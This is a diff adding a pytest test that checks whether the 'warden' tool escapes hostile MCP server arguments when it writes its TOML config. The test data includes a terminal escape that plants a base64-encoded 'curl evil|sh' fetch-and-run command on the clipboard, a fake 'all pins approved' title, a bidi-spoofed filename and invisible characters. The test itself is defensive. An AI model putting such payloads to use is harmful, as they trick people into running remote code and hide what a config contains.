@@ -282,6 +282,22 @@ def test_an_imported_server_s_hostile_arguments_reach_policy_explain_escaped(hom
                                            b"all pins approved\\x07<U+202E>txt.exe\\x9b2J'")
     assert [ch for ch in done.stdout.decode() if ch != "\n" and char_class(ch) is not None] == []
 
+
+def test_an_imported_server_s_hostile_arguments_are_written_as_toml_escapes(home: Path, isolated_env: Path) -> None:
+    """warden's config file holds the value exactly, and nothing a terminal or an editor would obey or hide when a
+    person opens or prints it (before: the bidi override and the C1 control were written raw)."""
+    path = home / ".cursor" / "mcp.json"
+    path.parent.mkdir()
+    args = [HOSTILE_ARG, "\u200bx\U000e0041"]  # and a zero-width space, an invisible tag character
+    path.write_text(json.dumps({"mcpServers": {"docs": {"command": "npx", "args": args}}}))
+    assert warden(home, "import").returncode == 0
+    config = Path(os.environ["WARDEN_CONFIG"])
+    text = config.read_text()
+    assert [ch for ch in text if ch != "\n" and char_class(ch) is not None] == []
+    assert ('args = ["\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\\u001b]0;warden: all pins approved\\u0007\\u202etxt.exe'
+            '\\u009b2J", "\\u200bx\\U000e0041"]\n') in text
+    assert tomllib.loads(text)["servers"]["docs"]["args"] == args
+
 @pytest.mark.parametrize(("content", "message"), [
     (b"{not json", "not valid JSON"),
     (b'{"mcpServers": {"a": {"command": "x", "autoStart": true}}}', "unknown key 'autoStart'"),
